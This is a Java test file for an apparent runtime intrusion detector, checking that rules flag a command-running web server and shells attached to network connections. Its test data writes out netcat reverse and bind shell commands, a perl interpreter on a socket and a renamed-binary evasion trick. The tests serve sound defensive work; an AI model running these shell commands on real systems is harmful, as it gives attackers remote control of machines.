package dev.vedette.tests.attacks;

import dev.vedette.policy.model.Severity;
import dev.vedette.tests.support.AttackRange;
import dev.vedette.tests.support.OnAttackRange;
import dev.vedette.tests.support.Workload;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** VDT-3002 and VDT-3003: a server made to run commands, and a shell at the end of a connection. */
@OnAttackRange
class IntrusionTest {
    private static final String ADDRESS =
            "ip=$(ip -4 -o addr show scope global | sed 's/.*inet \\([0-9.]*\\).*/\\1/')\n";

    /** Goes on when somebody listens at a port, in hexadecimal: state 0A of {@code /proc/net/tcp} (tcp_states.h). */
    private static final String LISTENING = "listening() { until cat /proc/net/tcp /proc/net/tcp6"
            + " | grep -q \":$1 [0-9A-F:]* 0A \"; do sleep 0.1; done; }\n";

    /** A site with a program in it, and the web server that serves it. */
    private static final String SITE = """
            mkdir -p /www/cgi-bin && echo hello >/www/index.html
            printf '#!/bin/sh\\necho; id\\n' >/www/cgi-bin/run && chmod +x /www/cgi-bin/run
            httpd -p 127.0.0.1:8081 -h /www
            i=0; until wget -q -O- http://127.0.0.1:8081/index.html; do i=$((i+1)); [ $i -lt 600 ] || exit 1; sleep 0.1; done
            """;

    private final AttackRange range;

    IntrusionTest(AttackRange range) {
        this.range = range;
    }

    @Test
    void shellOfAServerIsFound() {
        Workload attacked = range.ordinary();

        attacked.does("perl /opt/attacks/serve-a-shell.pl").worked();

        attacked.isFound("VDT-3002", Severity.HIGH);
        attacked.isSilentOn("VDT-3003");
    }

    @Test
    void scriptThatAWebServerRunsIsFound() {
        Workload attacked = range.ordinary();

        attacked.does(SITE + "wget -q -O- http://127.0.0.1:8081/cgi-bin/run").worked();

        attacked.isFound("VDT-3002", Severity.HIGH);
    }

    @Test
    void serverThatServesFilesAndShellsBesideItAreSilent() {
        Workload workload = range.ordinary();

        workload.does("sh -c id\n" + SITE + "sh -c id && wget -q -O- http://127.0.0.1:8081/index.html")
                .worked();

        workload.isSilentOn("VDT-3002", "VDT-3003");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "perl /opt/attacks/reverse-shell.pl",
                "cp /usr/bin/perl /tmp/innocent && /tmp/innocent /opt/attacks/reverse-shell.pl",
                // The other end is another busybox, which sends one harmless command.
                "(echo true; sleep 1) | nc -l -p 4445 >/dev/null & listening 115D; timeout 5 nc $ip 4445 -e /bin/sh; true",
                // A bind shell: whoever connects, commands.
                "timeout 60 nc -l -p 4446 -e /bin/sh & listening 115E; (echo true; sleep 1) | timeout 5 nc $ip 4446; true",
                // An interpreter other than a shell.
                "(echo '1;'; sleep 1) | nc -l -p 4447 >/dev/null & listening 115F; timeout 5 nc $ip 4447 -e /usr/bin/perl; true",
            })
    void shellAtAConnectionIsFound(String attack) {
        Workload attacked = range.ordinary();

        attacked.does(ADDRESS + LISTENING + attack).worked();

        attacked.isFound("VDT-3003", Severity.CRITICAL);
    }

    @Test
    void connectionHeldBesideTheStandardStreamsAndPipesAreSilent() {
        Workload workload = range.ordinary();

        workload.does(SITE + """
                perl -e 'use Socket; socket(my $s, PF_INET, SOCK_STREAM, 0) or die $!;
                connect($s, sockaddr_in(8081, inet_aton("127.0.0.1"))) or die $!; $^F = 9; system("/bin/sh", "-c", "id")'
                echo id | sh | cat
                """).worked();

        workload.isSilentOn("VDT-3003");
    }
}
